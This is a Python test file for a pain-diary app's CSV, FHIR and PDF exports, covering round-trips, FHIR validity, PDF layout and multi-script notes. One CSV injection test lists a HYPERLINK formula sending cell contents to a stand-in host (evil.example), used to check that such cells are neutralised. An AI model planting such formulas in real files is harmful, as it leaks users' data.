"""CSV, FHIR and PDF exports: what a patient or specialist receives must be complete and exact."""

import codecs
import csv
import importlib
import io
import json
import logging
import random
import unicodedata
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from fhir.resources.R4B.bundle import Bundle
from hypothesis import given
from hypothesis import strategies as st
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure
from pydantic import ValidationError
from pypdf import PdfReader

from diarybot.domain.entries import Entry, Source, Technique
from diarybot.domain.period_figures import period_figures
from diarybot.reports.csv_file import COLUMNS, entries_csv, header_row, parse_entries_csv
from diarybot.reports.fhir import fhir_bundle, fhir_json
from diarybot.reports.fhir_codes import COPING_SYSTEM, DIARY_SYSTEM, observation_uuid
from diarybot.reports.pdf import pdf_report
from diarybot.texts import report as report_texts

BERLIN = ZoneInfo("Europe/Berlin")
START = date(2026, 11, 2)
END = date(2026, 11, 29)
GENERATED = datetime(2026, 11, 30, 9, 15, tzinfo=BERLIN)
# The package re-exports the function `pdf_report`, which shadows the module's name there.
pdf_report_module = importlib.import_module("diarybot.reports.pdf_entries")
pdf_summary_module = importlib.import_module("diarybot.reports.pdf_summary")
TRICKY_NOTES = [
    "Rücken ☀",
    'She said "it\'s nerve pain", then left',
    "first line\nsecond line, with a comma",
    "=1+1 looks like a formula",
    "",
]


def make_entry(uid, local, score, **fields):
    return Entry(
        id=uid,
        recorded_at=local.astimezone(UTC),
        local_date=local.date(),
        score=score,
        **fields,
    )


@pytest.fixture
def entries():
    """Five entries, deliberately out of order, one in summer time (+02:00)."""
    return [
        make_entry(
            "e3",
            datetime(2026, 11, 3, 8, 0, tzinfo=BERLIN),
            7,
            techniques=(Technique.HEAT_COLD,),
            note=TRICKY_NOTES[1],
        ),
        make_entry(
            "e1",
            datetime(2026, 11, 2, 20, 15, tzinfo=BERLIN),
            6,
            techniques=(Technique.BREATHING, Technique.TENS),
            medication=True,
            note=TRICKY_NOTES[0],
            source=Source.REMINDER,
        ),
        make_entry("e4", datetime(2026, 11, 3, 21, 0, tzinfo=BERLIN), 5, note=TRICKY_NOTES[2]),
        make_entry("e0", datetime(2026, 7, 1, 9, 30, tzinfo=BERLIN), 3, note=TRICKY_NOTES[3]),
        make_entry("e5", datetime(2026, 11, 4, 7, 0, tzinfo=BERLIN), 0, source=Source.TYPED),
    ]


# --- CSV ---


def test_csv_starts_with_a_bom_and_the_documented_header(entries):
    data = entries_csv(entries, BERLIN)
    assert data.startswith(codecs.BOM_UTF8)
    first_line = data[len(codecs.BOM_UTF8) :].split(b"\r\n")[0]
    # The daily items' columns came at the end: readers that go by position keep working.
    assert (
        first_line
        == (
            "Entry ID,Recorded at,Date,Pain score (0–10),Coping techniques,Pain medication,"
            "Medications taken,Note,Source,Sleep quality (0–10),Mood (0–10),Pain regions"
        ).encode()
    )


def test_csv_rows_are_oldest_first_with_local_offsets(entries):
    rows = parse_entries_csv(entries_csv(entries, BERLIN))
    assert [row["entry_id"] for row in rows] == ["e0", "e1", "e3", "e4", "e5"]
    text = entries_csv(entries, BERLIN).decode("utf-8-sig")
    assert (
        "e1,2026-11-02T20:15:00+01:00,2026-11-02,6,breathing;tens,yes,,Rücken ☀,reminder" in text
    )
    assert "e0,2026-07-01T09:30:00+02:00,2026-07-01,3,,no,," in text


def test_csv_round_trips_every_field_including_tricky_notes(entries):
    rows = parse_entries_csv(entries_csv(entries, BERLIN))
    by_id = {row["entry_id"]: row for row in rows}
    assert len(rows) == len(entries)
    for original in entries:
        row = by_id[original.id]
        assert row["recorded_at"] == original.recorded_at
        assert (
            row["recorded_at"].utcoffset() == original.recorded_at.astimezone(BERLIN).utcoffset()
        )
        assert row["local_date"] == original.local_date
        assert row["score"] == original.score
        assert row["techniques"] == original.techniques
        assert row["medication"] is original.medication
        assert row["note"] == original.note
        assert row["source"] is original.source
    assert {row["note"] for row in rows} == set(TRICKY_NOTES)


def test_csv_of_no_entries_is_just_the_header():
    data = entries_csv([], BERLIN)
    assert parse_entries_csv(data) == []
    assert data.decode("utf-8-sig") == ",".join(header_row()) + "\r\n"
    assert len(header_row()) == len(COLUMNS)


# Every first character OWASP's CSV Injection page lists (=, +, -, @, tab, CR, LF).
FORMULA_NOTES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1 since the new tablets",
    "-2 since yesterday",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage return first",
    "\nline feed first",
    "'=already quoted",
]


def raw_cells(data: bytes) -> list[list[str]]:
    """The cells exactly as a spreadsheet reads them from the file (no un-neutralising)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def one_note(note: str) -> Entry:
    return make_entry("n1", datetime(2026, 11, 5, 9, tzinfo=BERLIN), 4, note=note)


@pytest.mark.parametrize("note", FORMULA_NOTES)
def test_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(note):
    data = entries_csv([one_note(note)], BERLIN)
    [_, row] = raw_cells(data)
    assert row[COLUMNS.index("note")] == "'" + note
    # The patient's text is unchanged for whoever reads the file back with our parser.
    [parsed] = parse_entries_csv(data)
    assert parsed["note"] == note


@pytest.mark.parametrize("note", ["2 since yesterday", "a-b=c", "'quoted'", "''", "", "😀 =1"])
def test_csv_cell_that_is_no_formula_is_written_as_typed(note):
    [_, row] = raw_cells(entries_csv([one_note(note)], BERLIN))
    assert row[COLUMNS.index("note")] == note


@given(note=st.text(max_size=40))
def test_csv_of_any_note_round_trips_and_no_cell_starts_a_formula(note):
    data = entries_csv([one_note(note)], BERLIN)
    assert parse_entries_csv(data)[0]["note"] == note
    for row in raw_cells(data):
        assert [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []


def test_fhir_keeps_a_formula_like_note_exactly():
    note = FORMULA_NOTES[0]
    bundle = fhir_bundle([one_note(note)], "Patient/42", "A", BERLIN, GENERATED)
    assert bundle["entry"][0]["resource"]["note"] == [{"text": note}]


def test_parse_rejects_a_foreign_csv():
    with pytest.raises(ValueError, match="not a diarybot entries CSV"):
        parse_entries_csv(b"date,pain\n2026-11-02,5\n")


# --- FHIR ---


def bundle_for(entries):
    return fhir_bundle(entries, "Patient/42", "Anna Müller", BERLIN, GENERATED)


def test_fhir_bundle_is_valid_r4b_and_nothing_is_dropped(entries):
    bundle = bundle_for(entries)
    model = Bundle.model_validate(bundle)
    assert model.type == "collection"
    assert len(model.entry) == len(entries)
    # fhir.resources silently ignores nothing here: the validated model dumps back identically.
    assert model.model_dump(mode="json", by_alias=True, exclude_none=True) == bundle


def test_fhir_validation_would_catch_a_broken_observation(entries):
    bundle = bundle_for(entries)
    bundle["entry"][0]["resource"]["valueInteger"] = "severe"
    with pytest.raises(ValidationError):
        Bundle.model_validate(bundle)


def test_fhir_observation_carries_score_time_patient_and_codes(entries):
    bundle = bundle_for(entries)
    assert bundle["timestamp"] == "2026-11-30T09:15:00+01:00"
    resources = [item["resource"] for item in bundle["entry"]]
    assert [r["identifier"][0]["value"] for r in resources] == ["e0", "e1", "e3", "e4", "e5"]
    first = resources[1]  # e1
    assert first["status"] == "final"
    assert first["code"]["coding"][0]["system"] == "http://loinc.org"
    assert first["code"]["coding"][0]["code"] == "72514-3"
    assert first["category"][0]["coding"][0]["code"] == "survey"
    assert first["valueInteger"] == 6
    assert first["effectiveDateTime"] == "2026-11-02T20:15:00+01:00"
    assert first["subject"] == {"reference": "Patient/42", "display": "Anna Müller"}
    assert first["performer"] == [first["subject"]]
    assert first["note"] == [{"text": "Rücken ☀"}]
    codings = [c["code"]["coding"][0] for c in first["component"]]
    codes = {(coding["system"], coding["code"]) for coding in codings}
    assert codes == {
        (COPING_SYSTEM, "breathing"),
        (COPING_SYSTEM, "tens"),
        (DIARY_SYSTEM, "pain-medication-taken"),
    }
    assert all(c["valueBoolean"] is True for c in first["component"])
    untouched = resources[4]  # e5: no note, techniques or medication
    assert "note" not in untouched
    assert "component" not in untouched


def test_fhir_full_urls_are_stable_unique_uuid5s(entries):
    first = bundle_for(entries)
    again = bundle_for(list(reversed(entries)))
    urls = [item["fullUrl"] for item in first["entry"]]
    assert urls == [item["fullUrl"] for item in again["entry"]]
    assert len(set(urls)) == len(urls)
    assert urls[0] == f"urn:uuid:{observation_uuid('Patient/42', 'e0')}"
    assert observation_uuid("Patient/42", "e0").version == 5
    assert observation_uuid("Patient/43", "e0") != observation_uuid("Patient/42", "e0")


def test_fhir_json_is_indented_utf8_with_readable_non_ascii(entries):
    data = fhir_json(entries, "Patient/42", "Anna Müller", BERLIN, GENERATED)
    assert "Rücken ☀".encode() in data
    assert data.startswith(b'{\n  "resourceType": "Bundle"')
    assert json.loads(data) == bundle_for(entries)


def test_fhir_rejects_a_naive_generation_time(entries):
    with pytest.raises(ValueError, match="timezone-aware"):
        fhir_bundle(entries, "Patient/42", "A", BERLIN, datetime(2026, 11, 30))


# --- PDF ---


def month_of_entries(count=60, seed=3):
    """`count` entries spread over the 28-day period, one note with non-ASCII text."""
    rng = random.Random(seed)
    result = []
    for n in range(count):
        local = datetime.combine(
            START + timedelta(days=n % 28), time(8 + (n // 28) * 6, 5), tzinfo=BERLIN
        )
        note = "Rücken ☀ after gardening" if n == 17 else rng.choice(["", "Tired", "Long walk"])
        result.append(
            make_entry(
                f"m{n:02d}",
                local,
                rng.randint(2, 8),
                techniques=(Technique.BREATHING,) if n % 3 == 0 else (),
                medication=n % 4 == 0,
                note=note,
                techniques_answered=True,  # the patient answered (ticked, or None of these)
            )
        )
    return result


def tiny_png(figsize=(4, 2)):
    figure = Figure(figsize=figsize, dpi=50)
    figure.add_subplot().plot([0, 1, 2], [5, 3, 4])
    buffer = io.BytesIO()
    FigureCanvasAgg(figure).print_png(buffer)
    return buffer.getvalue()


def render(entries, *, chart_png=None, name="Anna Müller", previous=None):
    figures = period_figures(entries, START, END, previous=previous)
    return pdf_report(
        patient_name=name,
        period_start=START,
        period_end=END,
        entries=entries,
        figures=figures,
        chart_png=chart_png,
        tz=BERLIN,
        generated_at=GENERATED,
    )


def four_weeks_earlier(entries, score):
    """The same entries moved into the previous period, all rated `score`."""
    shift = timedelta(days=28)
    return [
        e.replace(
            id=f"p{e.id}",
            recorded_at=e.recorded_at - shift,
            local_date=e.local_date - shift,
            score=score,
        )
        for e in entries
    ]


@pytest.fixture(scope="module")
def month_pdf():
    entries = month_of_entries()
    data = render(entries, chart_png=tiny_png(), previous=four_weeks_earlier(entries, 9))
    return data, PdfReader(io.BytesIO(data))


def page_texts(reader):
    return [page.extract_text() for page in reader.pages]


def test_pdf_first_page_has_name_period_and_key_figures(month_pdf):
    _, reader = month_pdf
    figures = period_figures(month_of_entries(), START, END)
    first = page_texts(reader)[0]
    assert "Pain diary summary" in first
    assert "Anna Müller" in first
    assert "Mon, Nov 2, 2026 – Sun, Nov 29, 2026 (28 days)" in first
    assert "28 of 28 (100%) · 60 entries" in first
    assert f"Average pain {figures.mean:.1f}" in first
    assert f"Worst / least single score {figures.worst} / {figures.least}" in first
    assert f"Days with pain medication {figures.medication_days} of 28 logged days" in first
    assert "clinically important" in first  # previous period at 9, this one far lower
    (breathing,) = figures.techniques
    assert breathing.comparison_shown
    with_, without = (
        report_texts.number(breathing.mean_with),
        report_texts.number(breathing.mean_without),
    )
    assert f"Breathing exercises {breathing.days_used} {with_} {without}" in first
    assert "not medical advice" in first


def test_pdf_lists_every_entry_with_its_unicode_note(month_pdf):
    _, reader = month_pdf
    rest = "\n".join(page_texts(reader)[1:])
    assert "Rücken ☀ after gardening" in rest
    assert rest.count("Long walk") + rest.count("Tired") >= 1
    for day_label in ("Mon, Nov 2", "Sun, Nov 29"):
        assert day_label in rest


def test_pdf_long_table_breaks_across_pages_with_header_and_footer(month_pdf):
    _, reader = month_pdf
    texts = page_texts(reader)
    assert len(texts) >= 3
    for number, text in enumerate(texts, start=1):
        assert f"Page {number} of {len(texts)}" in text
        assert "Generated Nov 30, 2026 at 09:15 by diarybot" in text
    for text in texts[1:]:
        assert "Pain diary summary · Anna Müller · Nov 2, 2026 – Nov 29, 2026" in text
        assert "Date Time Score Techniques Medication" in text


def test_pdf_embeds_the_chart_and_stays_small(month_pdf):
    data, reader = month_pdf
    assert len(reader.pages[0].images) == 1
    assert len(data) < 80_000


def test_pdf_is_reproducible_and_dated_by_its_generation_time():
    entries = month_of_entries(count=5)
    data = render(entries)
    assert data == render(entries)
    assert PdfReader(io.BytesIO(data)).metadata.creation_date == GENERATED


def test_pdf_of_an_empty_period_says_so():
    reader = PdfReader(io.BytesIO(render([], name="")))
    text = "\n".join(page_texts(reader))
    assert "(no name given)" in text
    assert "No entries in this period." in text
    assert "No coping techniques were recorded in this period." in " ".join(text.split())
    assert "Average pain –" in text
    assert len(reader.pages[0].images) == 0


def test_pdf_replaces_characters_no_font_has_without_logging_the_note(caplog):
    note = "\U000f0000\U000f0001 today"  # private use: no font has these
    entry = make_entry("x", datetime(2026, 11, 5, 9, tzinfo=BERLIN), 4, note=note)
    with caplog.at_level(logging.WARNING):
        data = render([entry])
    text = "\n".join(page_texts(PdfReader(io.BytesIO(data))))
    assert "\ufffd\ufffd today" in text
    assert not [r for r in caplog.records if "missing" in r.getMessage()]


#: A word a patient might write in each script the report must carry as text.
SCRIPT_WORDS = {
    "Chinese": "布洛芬缓释胶囊",
    "Japanese": "ロキソニン錠を飲んだ",
    "Korean": "허리 통증",
    "Hindi": "दर्द निवारक",
    "Thai": "พาราเซตามอล",
    "Arabic": "باراسيتامول",
    "Hebrew": "אקמול",
    "Greek": "Παρακεταμόλη",
    "Emoji": "💊🔥❤️👍🏽",
}


def readable_text(data):
    """The PDF's text as pypdf extracts it, less control characters.

    pypdf decodes the CID-keyed Noto CJK font (whose encoding fpdf2 embeds as a CMap, as the
    PDF standard allows) byte by byte, putting a NUL before each character, and emits a control
    code for a Devanagari glyph that stands for no character of its own; poppler's pdftotext
    reads the same files cleanly. No patient's word holds a control character, so dropping
    them keeps the check exact: every character of the word, in order, and no box.
    """
    text = "\n".join(page_texts(PdfReader(io.BytesIO(data))))
    return "".join(c for c in text if c == "\n" or unicodedata.category(c) != "Cc")


def note_entries(*notes):
    return [
        make_entry(f"n{index}", datetime(2026, 11, 5 + index, 9, tzinfo=BERLIN), 4, note=note)
        for index, note in enumerate(notes)
    ]


def test_pdf_carries_notes_in_every_script_as_text_not_boxes(caplog):
    with caplog.at_level(logging.WARNING):
        data = render(note_entries(*SCRIPT_WORDS.values()))
    text = readable_text(data)
    missing = [script for script, word in SCRIPT_WORDS.items() if word not in text]
    assert missing == []
    assert "\ufffd" not in text
    assert not [r for r in caplog.records if "missing" in r.getMessage().lower()]
    assert len(data) < 150_000  # only the glyphs used are embedded


def test_pdf_embeds_no_fallback_font_a_latin_report_does_not_need():
    data = render(note_entries("Rücken ☀ after gardening", "Ибупрофен"))
    fonts = {
        str(font.get_object()["/BaseFont"])
        for page in PdfReader(io.BytesIO(data)).pages
        for font in page["/Resources"]["/Font"].values()
    }
    assert not [name for name in fonts if "Noto" in name]


def test_pdf_names_a_patient_in_any_script():
    data = render(note_entries("ok"), name="王小明 · राम")
    assert "Patient 王小明 · राम" in readable_text(data)


MEDICATION_LIST = "\n".join(f"{n}. Ibuprofen {n}0 mg x2" for n in range(70))


@pytest.mark.parametrize(
    "note",
    [MEDICATION_LIST, "疼痛" * 750, "!" * 1999, "\n" * 1998 + "x", "😀" * 1000 + "ok"],
    ids=["70 lines", "1500 Chinese", "2000 punctuation", "2000 newlines", "1000 emoji"],
)
def test_pdf_never_fails_on_a_long_note(note):
    data = render([*month_of_entries(count=10), *note_entries(note, "कल बेहतर")])
    assert readable_text(data).count("कल बेहतर") == 1  # the entry after it is listed too


def test_pdf_breaks_a_70_line_note_across_rows_and_keeps_every_line():
    data = render([*month_of_entries(count=40), *note_entries(MEDICATION_LIST)])
    text = readable_text(data)
    for n in range(70):
        assert f"{n}. Ibuprofen {n}0 mg x2" in text
    assert report_texts.note_continued() in text
    assert report_texts.note_cut() not in text


def test_pdf_keeps_1500_chinese_characters():
    note = ("今天背痛得厉害，吃了布洛芬以后好一点。" * 80)[:1500]
    text = readable_text(render(note_entries(note)))
    # Wrapped and continued on the next page, between page furniture, but every character.
    assert "".join(c for c in text if c in set(note)) == note


def test_pdf_cuts_a_note_past_its_line_limit_and_points_to_the_csv():
    note = "\n".join(f"line {n}" for n in range(200))
    text = readable_text(render(note_entries(note)))
    lines = set(text.split("\n"))
    limit = pdf_report_module.NOTE_MAX_LINES
    assert f"line {limit - 2}" in lines
    assert f"line {limit - 1}" not in lines
    assert report_texts.note_cut() in text


def test_pdf_moves_a_chart_too_small_for_page_one_to_the_next_page(monkeypatch):
    monkeypatch.setattr(pdf_summary_module, "MIN_CHART_HEIGHT", 1000.0)
    tall = tiny_png(figsize=(2, 8))  # taller at full width than what is left of page 1
    reader = PdfReader(io.BytesIO(render(month_of_entries(count=5), chart_png=tall)))
    assert len(reader.pages[0].images) == 0
    assert "not medical advice" in reader.pages[0].extract_text()
    assert len(reader.pages[1].images) == 1
    assert "All entries" in "".join(page.extract_text() for page in reader.pages[1:])
